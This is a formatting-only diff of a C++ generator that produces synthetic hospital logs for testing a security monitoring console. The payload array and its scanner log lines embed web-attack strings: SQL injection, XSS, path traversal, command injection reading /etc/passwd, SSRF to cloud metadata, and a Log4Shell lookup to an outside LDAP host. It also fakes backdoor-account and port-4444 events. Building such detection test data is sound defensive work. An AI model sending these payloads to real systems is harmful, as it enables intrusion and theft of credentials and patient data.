@@ -11,7 +11,7 @@ constexpr const char* kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Ju
 constexpr int kTz = 8 * 3600;  // the hospital's devices log in China Standard Time
 
 // Servers of the core business zone (10.20.0.0/22) and the others, per the demo hospital.
-constexpr const char* kLinuxHosts[] = {"his-app-01", "his-app-02", "emr-app-01", "lis-app-01", "pacs-app-01",
+constexpr const char* kLinuxHosts[] = {"his-app-01", "his-app-02", "emr-app-01",   "lis-app-01",    "pacs-app-01",
                                        "ris-app-01", "esb-app-01", "ihosp-web-01", "portal-web-01", "backup-01"};
 constexpr const char* kLinuxIps[] = {"10.20.0.11", "10.20.0.12", "10.20.0.21", "10.20.0.31", "10.20.1.11",
                                      "10.20.1.21", "10.20.0.41", "10.40.0.21", "10.40.0.22", "10.30.0.40"};
@@ -26,24 +26,28 @@ constexpr const char* kUserAgents[] = {
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.44",
     "Mozilla/5.0 (Linux; Android 13; V2302A) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0 Mobile Safari/537.36",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15"};
-constexpr const char* kPortalPaths[] = {
-    "/api/appointment/departments", "/api/appointment/doctors?deptId=1203", "/api/appointment/slots?doctorId=88&date=2026-11-27",
-    "/api/patient/profile", "/api/report/list?cardNo=0012345678", "/static/js/app.3f2a1c.js", "/static/css/main.css",
-    "/api/pay/order/status?orderNo=WX20261126001234", "/api/queue/status?deptId=1105", "/index.html", "/api/news/list?page=1"};
+constexpr const char* kPortalPaths[] = {"/api/appointment/departments",
+                                        "/api/appointment/doctors?deptId=1203",
+                                        "/api/appointment/slots?doctorId=88&date=2026-11-27",
+                                        "/api/patient/profile",
+                                        "/api/report/list?cardNo=0012345678",
+                                        "/static/js/app.3f2a1c.js",
+                                        "/static/css/main.css",
+                                        "/api/pay/order/status?orderNo=WX20261126001234",
+                                        "/api/queue/status?deptId=1105",
+                                        "/index.html",
+                                        "/api/news/list?page=1"};
 constexpr const char* kSqli[] = {
     "/api/appointment/doctors?deptId=1203%27%20OR%20%271%27=%271",
     "/api/report/list?cardNo=0012345678%27%20UNION%20SELECT%20username,password%20FROM%20sys_user--",
-    "/api/appointment/slots?doctorId=88;WAITFOR%20DELAY%20%270:0:5%27--",
-    "/api/news/list?page=1%20AND%20SLEEP(5)", "/api/patient/profile?id=1%20AND%201=CONVERT(int,(SELECT%20@@version))",
-    "/login.jsp?user=admin%27--&pass=x",
+    "/api/appointment/slots?doctorId=88;WAITFOR%20DELAY%20%270:0:5%27--", "/api/news/list?page=1%20AND%20SLEEP(5)",
+    "/api/patient/profile?id=1%20AND%201=CONVERT(int,(SELECT%20@@version))", "/login.jsp?user=admin%27--&pass=x",
     // The same scanner tries the other classes too (the console's web-attack page shows each).
     "/api/news/search?kw=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
-    "/portal/notice?title=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
-    "/api/report/download?file=../../../../etc/passwd",
-    "/api/tools/ping?host=127.0.0.1;cat%20/etc/passwd",
-    "/api/preview?url=http://169.254.169.254/latest/meta-data/",
-    "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
-    "/.git/config", "/api/search?q=${jndi:ldap://45.95.147.201:1389/a}"};
+    "/portal/notice?title=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/api/report/download?file=../../../../etc/passwd",
+    "/api/tools/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/preview?url=http://169.254.169.254/latest/meta-data/",
+    "/index.php?page=php://filter/convert.base64-encode/resource=index.php", "/.git/config",
+    "/api/search?q=${jndi:ldap://45.95.147.201:1389/a}"};
 
 }  // namespace
 
@@ -70,8 +74,8 @@ std::string Generator::header(int pri, int64_t ts, const std::string& host, cons
   unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100), mp = (5 * doy + 2) / 153;
   unsigned d = doy - (153 * mp + 2) / 5 + 1, m = mp < 10 ? mp + 3 : mp - 9;
   char buf[96];
-  std::snprintf(buf, sizeof buf, "<%d>%s %2u %02lld:%02lld:%02lld ", pri, kMonths[m - 1], d,
-                static_cast<long long>(rem / 3600), static_cast<long long>(rem / 60 % 60), static_cast<long long>(rem % 60));
+  std::snprintf(buf, sizeof buf, "<%d>%s %2u %02lld:%02lld:%02lld ", pri, kMonths[m - 1], d, static_cast<long long>(rem / 3600),
+                static_cast<long long>(rem / 60 % 60), static_cast<long long>(rem % 60));
   return std::string(buf) + host + " " + tag + ": ";
 }
 
@@ -100,7 +104,9 @@ std::string Generator::sshd(int64_t ts) {
   int port = uniform(32768, 60999);
   std::string h = header(86, ts, host, "sshd[" + std::to_string(++pid_) + "]");
   switch (uniform(0, 5)) {
-    case 0: return h + "Accepted publickey for " + user + " from " + src + " port " + std::to_string(port) + " ssh2: RSA SHA256:q3Zy8cE1Yk2bJtq0b2V0dZs9rQeqKJ6nL4e3hUxS0oA";
+    case 0:
+      return h + "Accepted publickey for " + user + " from " + src + " port " + std::to_string(port) +
+             " ssh2: RSA SHA256:q3Zy8cE1Yk2bJtq0b2V0dZs9rQeqKJ6nL4e3hUxS0oA";
     case 1: return h + "Accepted password for " + user + " from " + src + " port " + std::to_string(port) + " ssh2";
     case 2: return h + "pam_unix(sshd:session): session opened for user " + user + "(uid=1001) by (uid=0)";
     case 3: return h + "pam_unix(sshd:session): session closed for user " + user;
@@ -120,19 +126,20 @@ std::string Generator::brute_force(int64_t ts) {
 }
 
 std::string Generator::nginx(int64_t ts) {
-  std::string client = uniform(0, 3) ? ip("223.104.", 1, 254) + "." + std::to_string(uniform(1, 254)) : ip("10.50.", 0, 15) + "." + std::to_string(uniform(2, 254));
+  std::string client = uniform(0, 3) ? ip("223.104.", 1, 254) + "." + std::to_string(uniform(1, 254))
+                                     : ip("10.50.", 0, 15) + "." + std::to_string(uniform(2, 254));
   std::string path = pick(kPortalPaths);
   int status = uniform(0, 30) ? 200 : (uniform(0, 1) ? 404 : 302);
   std::string method = path.rfind("/api/pay", 0) == 0 || uniform(0, 9) == 0 ? "POST" : "GET";
-  return header(190, ts, "ihosp-web-01", "nginx") + client + " - - [" + clf_time(ts) + "] \"" + method + " " + path +
-         " HTTP/1.1\" " + std::to_string(status) + " " + std::to_string(uniform(200, 48000)) + " \"https://yy.demo-hospital.cn/\" \"" +
-         pick(kUserAgents) + "\"";
+  return header(190, ts, "ihosp-web-01", "nginx") + client + " - - [" + clf_time(ts) + "] \"" + method + " " + path + " HTTP/1.1\" " +
+         std::to_string(status) + " " + std::to_string(uniform(200, 48000)) + " \"https://yy.demo-hospital.cn/\" \"" + pick(kUserAgents) +
+         "\"";
 }
 
 std::string Generator::sqli(int64_t ts) {
   std::string client = "103.145.13." + std::to_string(uniform(10, 12));
-  return header(190, ts, "portal-web-01", "nginx") + client + " - - [" + clf_time(ts) + "] \"GET " + pick(kSqli) +
-         " HTTP/1.1\" " + (uniform(0, 1) ? "403" : "500") + " 162 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"";
+  return header(190, ts, "portal-web-01", "nginx") + client + " - - [" + clf_time(ts) + "] \"GET " + pick(kSqli) + " HTTP/1.1\" " +
+         (uniform(0, 1) ? "403" : "500") + " 162 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"";
 }
 
 std::string Generator::firewall(int64_t ts) {
@@ -140,11 +147,11 @@ std::string Generator::firewall(int64_t ts) {
   bool drop = uniform(0, 3) == 0;
   static constexpr int kPorts[] = {22, 80, 443, 1433, 1521, 3306, 3389, 445, 8080, 104};
   int dpt = kPorts[uniform(0, 9)];
-  return header(4, ts, "fw-core-01", "kernel") + "[" + std::to_string(uniform(100000, 999999)) + "." + std::to_string(uniform(100000, 999999)) + "] " +
-         (drop ? "IPT-DROP: " : "IPT-ACCEPT: ") + "IN=eth1 OUT=eth2 MAC=00:1b:21:3a:4f:10:00:1c:73:aa:01:02:08:00 SRC=" + src +
-         " DST=10.20.0." + std::to_string(uniform(11, 41)) + " LEN=60 TOS=0x00 PREC=0x00 TTL=" + std::to_string(uniform(40, 64)) +
-         " ID=" + std::to_string(uniform(1, 65535)) + " DF PROTO=TCP SPT=" + std::to_string(uniform(1024, 65535)) + " DPT=" +
-         std::to_string(dpt) + " WINDOW=64240 RES=0x00 SYN URGP=0";
+  return header(4, ts, "fw-core-01", "kernel") + "[" + std::to_string(uniform(100000, 999999)) + "." +
+         std::to_string(uniform(100000, 999999)) + "] " + (drop ? "IPT-DROP: " : "IPT-ACCEPT: ") +
+         "IN=eth1 OUT=eth2 MAC=00:1b:21:3a:4f:10:00:1c:73:aa:01:02:08:00 SRC=" + src + " DST=10.20.0." + std::to_string(uniform(11, 41)) +
+         " LEN=60 TOS=0x00 PREC=0x00 TTL=" + std::to_string(uniform(40, 64)) + " ID=" + std::to_string(uniform(1, 65535)) +
+         " DF PROTO=TCP SPT=" + std::to_string(uniform(1024, 65535)) + " DPT=" + std::to_string(dpt) + " WINDOW=64240 RES=0x00 SYN URGP=0";
 }
 
 std::string Generator::ngfw_cef(int64_t ts) {
@@ -160,21 +167,25 @@ std::string Generator::ngfw_cef(int64_t ts) {
 std::string Generator::switch_log(int64_t ts) {
   static constexpr const char* kMsgs[] = {
       "%%01IFNET/4/LINK_STATE(l)[12]:The line protocol IP on the interface GigabitEthernet0/0/12 has entered the UP state.",
-      "%%01SHELL/5/CMDRECORD(s)[3]:Recorded command information. (Task=VT0, Ip=10.30.0.10, VpnName=, User=netadmin, AuthenticationMethod=\"Local-user\", Command=\"display interface brief\")",
+      "%%01SHELL/5/CMDRECORD(s)[3]:Recorded command information. (Task=VT0, Ip=10.30.0.10, VpnName=, User=netadmin, "
+      "AuthenticationMethod=\"Local-user\", Command=\"display interface brief\")",
       "%%01SSH/5/SSH_USER_LOGIN(s)[4]:The SSH user succeeded in logging in. (UserName=netadmin, IPAddress=10.30.0.10, VpnInstanceName=)",
-      "%%01MSTP/4/PROPORT_STATE_FORWARDING(l)[5]:The port has been set to forwarding state. (ProcessID=0, InstanceID=0, PortName=GigabitEthernet0/0/3)",
-      "%%01ARP/4/ARP_DUPLICATE_IPADDR(l)[6]:Received an ARP packet with a duplicate IP address from the interface. (IpAddress=10.50.3.27, InterfaceName=Vlanif50)"};
+      "%%01MSTP/4/PROPORT_STATE_FORWARDING(l)[5]:The port has been set to forwarding state. (ProcessID=0, InstanceID=0, "
+      "PortName=GigabitEthernet0/0/3)",
+      "%%01ARP/4/ARP_DUPLICATE_IPADDR(l)[6]:Received an ARP packet with a duplicate IP address from the interface. (IpAddress=10.50.3.27, "
+      "InterfaceName=Vlanif50)"};
   return header(189, ts, "sw-core-0" + std::to_string(uniform(1, 2)), "SW") + pick(kMsgs);
 }
 
 std::string Generator::his_app(int64_t ts) {
   static constexpr const char* kActions[] = {"门诊挂号", "开具处方", "医嘱录入", "收费结算", "检验申请", "病历书写", "住院登记"};
   char buf[512];
-  std::snprintf(buf, sizeof buf,
-                "{\"app\":\"HIS\",\"module\":\"outpatient\",\"user.name\":\"%s\",\"doctor\":\"%s\",\"dept\":\"%s\","
-                "\"action\":\"%s\",\"patient_id\":\"P%08d\",\"source.ip\":\"10.50.%d.%d\",\"duration_ms\":%d,\"event.outcome\":\"success\"}",
-                ("d" + std::to_string(uniform(1000, 1300))).c_str(), pick(kDoctors).c_str(), pick(kDepts).c_str(), pick(kActions).c_str(),
-                uniform(1, 9999999), uniform(0, 15), uniform(2, 254), uniform(5, 800));
+  std::snprintf(
+      buf, sizeof buf,
+      "{\"app\":\"HIS\",\"module\":\"outpatient\",\"user.name\":\"%s\",\"doctor\":\"%s\",\"dept\":\"%s\","
+      "\"action\":\"%s\",\"patient_id\":\"P%08d\",\"source.ip\":\"10.50.%d.%d\",\"duration_ms\":%d,\"event.outcome\":\"success\"}",
+      ("d" + std::to_string(uniform(1000, 1300))).c_str(), pick(kDoctors).c_str(), pick(kDepts).c_str(), pick(kActions).c_str(),
+      uniform(1, 9999999), uniform(0, 15), uniform(2, 254), uniform(5, 800));
   return header(134, ts, "his-app-0" + std::to_string(uniform(1, 2)), "his-app") + buf;
 }
 
@@ -191,22 +202,24 @@ std::string Generator::db_server(int64_t ts) {
   return db_statement(ts, pick(kApps), "10.20.0.1" + std::to_string(uniform(1, 2)), "HIS", stmt, uniform(0, 40));
 }
 
-std::string Generator::db_statement(int64_t ts, const std::string& user, const std::string& ip, const std::string& program, const std::string& stmt,
-                                    int rows) {
+std::string Generator::db_statement(int64_t ts, const std::string& user, const std::string& ip, const std::string& program,
+                                    const std::string& stmt, int rows) {
   std::string esc;
   for (char c : stmt) {
     if (c == '"' || c == '\\') esc += '\\';
     esc += c;
   }
-  return "{\"@timestamp\":\"" + format_rfc3339(ts) + "\",\"event.dataset\":\"dbaudit.statement\",\"db.system\":\"oracle\",\"db.name\":\"HIS\"," +
-         "\"db.user.name\":\"" + user + "\",\"source.ip\":\"" + ip + "\",\"destination.ip\":\"10.20.0.50\",\"client.program\":\"" + program +
-         "\",\"db.statement\":\"" + esc + "\",\"db.response.returned_rows\":" + std::to_string(rows) + "}";
+  return "{\"@timestamp\":\"" + format_rfc3339(ts) +
+         "\",\"event.dataset\":\"dbaudit.statement\",\"db.system\":\"oracle\",\"db.name\":\"HIS\"," + "\"db.user.name\":\"" + user +
+         "\",\"source.ip\":\"" + ip + "\",\"destination.ip\":\"10.20.0.50\",\"client.program\":\"" + program + "\",\"db.statement\":\"" +
+         esc + "\",\"db.response.returned_rows\":" + std::to_string(rows) + "}";
 }
 
 std::string Generator::auditd(int64_t ts) {
   char buf[512];
   std::snprintf(buf, sizeof buf,
-                "type=USER_LOGIN msg=audit(%lld.%03d:%d): pid=%d uid=0 auid=1001 ses=%d subj=unconfined msg='op=login id=1001 exe=\"/usr/sbin/sshd\" hostname=10.30.0.10 addr=10.30.0.10 terminal=ssh res=success'",
+                "type=USER_LOGIN msg=audit(%lld.%03d:%d): pid=%d uid=0 auid=1001 ses=%d subj=unconfined msg='op=login id=1001 "
+                "exe=\"/usr/sbin/sshd\" hostname=10.30.0.10 addr=10.30.0.10 terminal=ssh res=success'",
                 static_cast<long long>(ts / 1000000000), uniform(0, 999), uniform(10000, 99999), ++pid_, uniform(1, 500));
   return header(85, ts, pick(kLinuxHosts), "audispd") + buf;
 }
@@ -221,25 +234,29 @@ std::string Generator::sudo(int64_t ts) {
 
 std::string Generator::pacs(int64_t ts) {
   return header(134, ts, "pacs-app-01", "dcmqrscp[" + std::to_string(++pid_) + "]") + "C-STORE from CT-01 (10.60.0." +
-         std::to_string(uniform(11, 20)) + ") study 1.2.840.113619.2." + std::to_string(uniform(100000, 999999)) + " images=" +
-         std::to_string(uniform(80, 600)) + " status=Success";
+         std::to_string(uniform(11, 20)) + ") study 1.2.840.113619.2." + std::to_string(uniform(100000, 999999)) +
+         " images=" + std::to_string(uniform(80, 600)) + " status=Success";
 }
 
 std::string Generator::device_to_internet(int64_t ts) {
-  return header(4, ts, "fw-core-01", "kernel") + "IPT-ACCEPT: IN=eth3 OUT=eth0 SRC=10.60.1.23 DST=193.142.146.35 LEN=60 TOS=0x00 PREC=0x00 TTL=127 ID=" +
-         std::to_string(uniform(1, 65535)) + " DF PROTO=TCP SPT=" + std::to_string(uniform(49152, 65535)) + " DPT=4444 WINDOW=8192 RES=0x00 SYN URGP=0";
+  return header(4, ts, "fw-core-01", "kernel") +
+         "IPT-ACCEPT: IN=eth3 OUT=eth0 SRC=10.60.1.23 DST=193.142.146.35 LEN=60 TOS=0x00 PREC=0x00 TTL=127 ID=" +
+         std::to_string(uniform(1, 65535)) + " DF PROTO=TCP SPT=" + std::to_string(uniform(49152, 65535)) +
+         " DPT=4444 WINDOW=8192 RES=0x00 SYN URGP=0";
 }
 
 std::string Generator::tongfang(int64_t ts) {
-  return db_statement(ts, "his_query", "10.50.7.88", "PL/SQL Developer",
-                      "SELECT d.DOCTOR_NAME, p.DRUG_NAME, SUM(p.QUANTITY) FROM DRUG_PRESC_DETAIL p JOIN STAFF_DICT d ON p.PRESCRIBED_BY = d.EMP_NO "
-                      "WHERE p.PRESC_DATE >= DATE '2026-11-01' GROUP BY d.DOCTOR_NAME, p.DRUG_NAME",
-                      uniform(800, 3000));
+  return db_statement(
+      ts, "his_query", "10.50.7.88", "PL/SQL Developer",
+      "SELECT d.DOCTOR_NAME, p.DRUG_NAME, SUM(p.QUANTITY) FROM DRUG_PRESC_DETAIL p JOIN STAFF_DICT d ON p.PRESCRIBED_BY = d.EMP_NO "
+      "WHERE p.PRESC_DATE >= DATE '2026-11-01' GROUP BY d.DOCTOR_NAME, p.DRUG_NAME",
+      uniform(800, 3000));
 }
 
 std::string Generator::new_admin(int64_t ts) {
   if (uniform(0, 1))
-    return header(86, ts, "emr-app-01", "useradd[" + std::to_string(++pid_) + "]") + "new user: name=sysbak, UID=0, GID=0, home=/home/sysbak, shell=/bin/bash, from=/dev/pts/2";
+    return header(86, ts, "emr-app-01", "useradd[" + std::to_string(++pid_) + "]") +
+           "new user: name=sysbak, UID=0, GID=0, home=/home/sysbak, shell=/bin/bash, from=/dev/pts/2";
   return header(86, ts, "emr-app-01", "usermod[" + std::to_string(++pid_) + "]") + "add 'sysbak' to group 'wheel'";
 }
 
@@ -252,13 +269,13 @@ std::string Generator::audit_off(int64_t ts) {
 
 // The nightly restore test: last night's HIS backup restored to the standby and checked.
 std::string Generator::backup_verify(int64_t ts) {
-  return header(78, ts, "backup-01", "bacula-dir") + "JobId " + std::to_string(uniform(5000, 9000)) + ": Restore OK -- HIS_DB_Restore_Test " +
-         std::to_string(uniform(300, 420)) + ".2 GB restored to his-db-standby";
+  return header(78, ts, "backup-01", "bacula-dir") + "JobId " + std::to_string(uniform(5000, 9000)) +
+         ": Restore OK -- HIS_DB_Restore_Test " + std::to_string(uniform(300, 420)) + ".2 GB restored to his-db-standby";
 }
 
 std::string Generator::backup(int64_t ts) {
-  return header(78, ts, "backup-01", "bacula-dir") + "JobId " + std::to_string(uniform(5000, 9000)) +
-         ": Backup OK -- HIS_DB_Full " + std::to_string(uniform(300, 420)) + ".2 GB in 01:" + std::to_string(uniform(10, 59)) + ":00";
+  return header(78, ts, "backup-01", "bacula-dir") + "JobId " + std::to_string(uniform(5000, 9000)) + ": Backup OK -- HIS_DB_Full " +
+         std::to_string(uniform(300, 420)) + ".2 GB in 01:" + std::to_string(uniform(10, 59)) + ":00";
 }
 
 std::string Generator::next(int64_t ts) {
